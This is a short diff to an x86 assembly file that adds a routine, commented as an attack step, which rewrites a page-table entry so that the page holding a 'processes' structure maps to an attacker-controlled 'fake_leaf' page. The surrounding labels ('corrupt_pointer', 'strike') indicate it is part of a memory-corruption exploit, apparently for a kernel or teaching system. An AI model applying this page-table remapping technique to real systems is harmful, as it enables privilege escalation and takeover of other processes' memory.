@@ -125,6 +125,14 @@ corrupt_pointer:
         shr eax, PAGE_SHIFT
         jmp strike
 
+; 8: the page of the processes becomes one of the attacker: none of theirs is written for that, but the page table is.
+remap_processes:
+        mov edi, processes
+        shr edi, PAGE_SHIFT
+        lea edi, [page_table + edi * 4]
+        mov eax, fake_leaf + PAGE_ENTRY
+        jmp strike
+
 ; Nothing to strike at: what is looked at afterwards has not been changed.
 no_node:
         mov dword [target], fake_leaf
